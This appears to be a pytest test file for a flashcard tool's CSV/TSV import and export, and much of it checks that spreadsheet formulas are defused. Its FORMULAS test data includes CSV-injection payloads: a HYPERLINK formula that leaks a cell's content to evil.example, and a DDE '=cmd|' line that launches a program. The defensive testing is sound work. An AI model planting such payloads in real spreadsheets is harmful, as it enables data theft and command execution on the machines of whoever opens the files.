"""CSV and TSV: what each column says, which cells are defused, and what of a table is refused or left out."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from msgspec.structs import replace

from srs_cli.app.settling import settled
from srs_cli.deckfile import HIDDEN, settle
from srs_cli.errors import InputRefusedError, UsageError
from srs_cli.exchange import FORMATS, Hints, Wish
from srs_cli.exchange.formulas import defused, restored
from srs_cli.model.card import Card, Deck, Source
from srs_cli.model.memory import Memory
from srs_cli.model.package import Package, Past
from tests.exchange.conftest import read, written

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|'/C calc'!A0", "\uff1d1+1", '"=1+1', "'=1+1", "-", "+", "=", "-5",
    "+44 20 7946 0000", "- a list item", "@handle", "=\u200b1", "\u200b=1+1", "\xa0=1+1", "\u202e=1", "\uff0b1", "\uff0d1",
    "\uff20a", "''=1", "\u2060-1",
)  # fmt: skip
HARMLESS = ("%0A=1+1", ";=1+1", "x,=1+1", "x\n=1+1", "a-b", "'quoted'", "", " ", "it's")


def rows_of(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def package(*cards: Card, name: str = "Deck") -> Package:
    return Package((Deck(name, cards, "id"),))


Save = Callable[[str | bytes], Path]


@pytest.fixture
def save(tmp_path: Path) -> Save:
    def run(content: str | bytes, name: str = "words.csv") -> Path:
        path = tmp_path / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return path

    return run


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_runs_gets_an_apostrophe_that_comes_off_again(cell: str) -> None:
    assert defused(cell) == "'" + cell
    assert restored(defused(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_it_does_not_run_stays(cell: str) -> None:
    assert defused(cell) == restored(cell) == cell


def test_cells_are_defused_in_every_column_and_come_back(save: Save) -> None:
    texts = (*FORMULAS, *HARMLESS[:5])
    drawn = (Card(f"f{place}", text, text, hint=text, tags=(text,)) for place, text in enumerate(texts))
    cards = tuple(card for card, _ in map(settle, drawn) if card)
    assert len(cards) == len(texts)
    path = save(written("csv", package(*cards, name="=cmd|x")))
    header, *rows = rows_of(path.read_bytes())
    assert header[-1] == "escaped"
    assert [cell for row in rows for cell in row if defused(cell) != cell and not cell.startswith("'")] == []
    decks, problems = settled(read("csv", path), path)
    assert (decks[0].name, decks[0].cards) == ("=cmd|x", cards)
    assert {each.what for each in problems} == {f"holds {HIDDEN}"}


def test_raw_leaves_cells_as_they_are(save: Save) -> None:
    path = save(written("csv", package(Card("a", "=1", "'=2")), Wish(raw=True)))
    header, row = rows_of(path.read_bytes())
    assert "escaped" not in header
    assert row[3:5] == ["=1", "'=2"]
    assert read("csv", path).package.decks[0].cards == (Card("a", "=1", "'=2"),)


def test_an_apostrophe_that_another_program_wrote_stays(save: Save) -> None:
    path = save("question,answer\n'-able,'=1\n")
    assert read("csv", path).package.decks[0].cards == (Card("", "'-able", "'=1"),)


def test_a_row_a_card_with_what_is_chosen() -> None:
    card = Card("c1", "q", ("a", "b\nc"), "both", "h", "x", ("t", "two words"), Source("n.md", 3), "i.png")
    past = {("id", "c1"): Past({0: Memory(20_010, 7, 236, 3, 1, 20_000, 20_003), 1: Memory()})}
    whole = replace(package(card), past=past)
    assert rows_of(written("csv", whole)) == [
        ["id", "deck", "type", "question", "answer", "hint", "extra", "tags", "source", "image"],
        ["c1", "Deck", "both list", "q", "a\nb\n  c", "h", "x", "t, two words", "n.md:3", "i.png"],
    ]
    wish = Wish(
        columns=("question", "due", "interval", "ease", "lapses", "reviewed", "repetitions", "suspended", "flag")
    )
    assert rows_of(written("tsv", whole, wish), "\t")[1] == [
        "q", "2024-10-14", "7", "2.36", "1", "2024-10-07", "3", "", "",
    ]  # fmt: skip
    assert rows_of(written("csv", whole, Wish(with_history=True)))[0][-8:-6] == ["due", "interval"]
    with pytest.raises(UsageError, match="no column 'nonsense'"):
        written("csv", whole, Wish(columns=("nonsense",)))


def test_a_byte_order_mark_on_demand() -> None:
    assert written("csv", package(Card("a", "é", "x")), Wish(bom=True)).startswith(b"\xef\xbb\xbfid,")
    assert written("csv", package(Card("a", "é", "x"))).startswith(b"id,")


@pytest.mark.parametrize(
    ("text", "cards"),
    [
        ("Term;Definition\nWhat, is it?;yes, it is\n", [Card("", "What, is it?", "yes, it is")]),
        ("front\tback\nq\tx\n", [Card("", "q", "x")]),
        ("sep=;\nQ;A\nq;x\n", [Card("", "q", "x")]),
        ("\ufeffid,question,answer\na,q,x\n", [Card("a", "q", "x")]),
        ("id,question,answer\ra,q,x\r", [Card("a", "q", "x")]),
        ('question,answer\n"l1\r\nl2\nl3\rl4",x\n', [Card("", "l1\nl2\nl3\nl4", "x")]),
        ("Answer,Question\nx,q\n", [Card("", "q", "x")]),
        ('question,answer,Tags\nq,x,"a, b;c"\n', [Card("", "q", "x", tags=("a", "b", "c"))]),
        ("question,answer,notes,hint\nq,x,n,h\n", [Card("", "q", "x", hint="h", extra="n")]),
        ("question,answer,type\nq,x,reversed\nq2,y,noun\n", [Card("", "q", "x", "both"), Card("", "q2", "y")]),
        ('question,answer,type\nq,"x\ny",basic list\n', [Card("", "q", ("x", "y"))]),
        ("question,answer\nGold is {{c1::Au}},\n", [Card("", "Gold is {{c1::Au}}", type="cloze")]),
        ("text,back extra,answer\n{{c1::a}},e,b\n", [Card("", "{{c1::a}}", "b", extra="e")]),
        ("text,type,answer\n{{c1::a}},Cloze,b\n", [Card("", "{{c1::a}}", type="cloze", extra="b")]),
        ("question,answer,source\nq,x,notes.md:3:4\n", [Card("", "q", "x", source=Source("notes.md", 3, 4))]),
        ("question,answer\nq,x,\n", [Card("", "q", "x")]),
    ],
)  # fmt: skip
def test_tables_as_others_write_them(save: Save, text: str, cards: list[Card]) -> None:
    path = save(text)
    assert FORMATS["csv"].codec.recognises(path.read_bytes(), path.name) or FORMATS["tsv"].codec.recognises(
        path.read_bytes(), path.name
    )
    found, problems = settled(read("csv", path), path)
    assert ([card for deck in found for card in deck.cards], problems) == (cards, [])


def test_utf_16_as_excel_writes_it(save: Save) -> None:
    path = save("question\tanswer\r\né\tx\r\n".encode("utf-16"))
    assert FORMATS["tsv"].codec.recognises(path.read_bytes(), path.name)
    assert read("tsv", path).package.decks[0].cards == (Card("", "é", "x"),)


def test_decks_by_a_column(save: Save) -> None:
    decks = read("csv", save("deck,question,answer\nA,1,x\nB,2,y\n,3,z\nA,4,w\n")).package.decks
    assert {deck.name: [card.question for card in deck.cards] for deck in decks} == {
        "A": ["1", "4"],
        "B": ["2"],
        "words": ["3"],
    }


@pytest.mark.parametrize(
    ("content", "why"),
    [
        ("", "words.csv: the file is empty"),
        ("\n" * 50, "words.csv: the file is empty"),
        ("What is 2+2?,4\nCapital?,Paris\n", "words.csv:1: no header row that names a question and an answer"),
        ("id,question,answer,answer\na,q,x,y\n", "words.csv:1: two columns hold the answer: 'answer' and 'answer'"),
        ("front,question,answer\na,q,x\n", "words.csv:1: two columns hold the question"),
        ('question,answer\nq,"x\nq2,y\n', "words.csv:2: this quotation mark is never closed"),
        ('question,answer\n"q"s,x\n', "words.csv:2: text follows a closing quotation mark"),
        ("question,answer\na,be\0fore\n", "words.csv:2: the file holds a NUL character"),
        ("x," * 20_000 + "\n", "words.csv:1: more than 200 columns"),
        ("question,answer\né,x\n".encode("latin-1"), "words.csv is not UTF-8 at byte 16, line 2"),
        ("question,answer\na,b,c\nd,e,f\n", "words.csv: no row fits its header; nothing was taken from it"),
    ],
)
def test_what_is_refused(save: Save, content: str | bytes, why: str) -> None:
    path = save(content)
    assert FORMATS["csv"].codec.recognises(path.read_bytes()[:1000], path.name)
    with pytest.raises(InputRefusedError) as caught:
        read("csv", path)
    assert why in caught.value.sentence


def test_what_is_left_out_is_told_with_its_line(save: Save) -> None:
    path = save("question,answer,colour\nq\nr,a,b,c,d\n\n,,\ns,a,b\n t , \n")
    found = read("csv", path)
    decks, problems = settled(found, path)
    assert [card.question for deck in decks for card in deck.cards] == ["s"]
    assert [str(each) for each in (*found.problems, *problems)] == [
        "words.csv:1: the column 'colour' is not used",
        "words.csv:3: 5 cells, and the header has 3: the row is left out",
        "words.csv:2: it has no answer: the card is left out",
        "words.csv:7: it has no answer: the card is left out",
    ]


def test_a_header_alone_is_no_fault(save: Save) -> None:
    found = read("csv", save("id,question,answer\n"))
    assert found.package.decks == ()
    assert [str(each) for each in found.problems] == ["words.csv: there is a header, and no card below it"]


def test_hints(save: Save) -> None:
    path = save("What is 2+2?,4\nCapital?,Paris,x\n")
    found = read("csv", path, Hints(no_header=True))
    assert found.package.decks[0].cards == (Card("", "What is 2+2?", "4"), Card("", "Capital?", "Paris"))
    assert [str(each) for each in found.problems] == [
        "words.csv:1: columns after the second are not used: only a header names them"
    ]
    path = save("question:answer\nq:x\n")
    assert read("csv", path, Hints(delimiter=":")).package.decks[0].cards == (Card("", "q", "x"),)
    with pytest.raises(InputRefusedError, match="one column only"):
        read("csv", save("a\nb\n"), Hints(no_header=True))
    path = save("question,answer\né,x\n".encode("latin-1"))
    assert read("csv", path, encoding="latin-1").package.decks[0].cards[0].question == "é"


@pytest.mark.parametrize(
    ("text", "name", "form"),
    [
        ("question,answer\nq,x\n", "a.csv", "csv"),
        ("question\tanswer\nq\tx\n", "a.csv", "tsv"),
        ("question\tanswer\nq\tx\n", "a.txt", "tsv"),
        ("Year,Event\n1917,October\n", "a.csv", "csv"),  # refused with a hint to name the columns, or to extract
        ("Year,Event\n1917,October\n", "a.txt", ""),
        ("Question, answer and more.\nSome prose follows here.\n", "notes.txt", ""),
        ("question,answer\nq,x\n", "a.md", ""),
    ],
)
def test_what_is_known_as_a_table(text: str, name: str, form: str) -> None:
    known = [each for each in ("csv", "tsv") if FORMATS[each].codec.recognises(text.encode(), name)]
    assert known == ([form] if form else [])


@pytest.mark.parametrize("count", [0, 1, 999, 2500])
def test_how_far_it_is_is_told_up_to_the_last_card(count: int) -> None:
    steps: list[int] = []
    deck = Deck("d", tuple(Card(f"c{n}", "q", "a") for n in range(count)), "id")
    written("csv", Package((deck,)), Wish(step=steps.append))
    assert sum(steps) == count
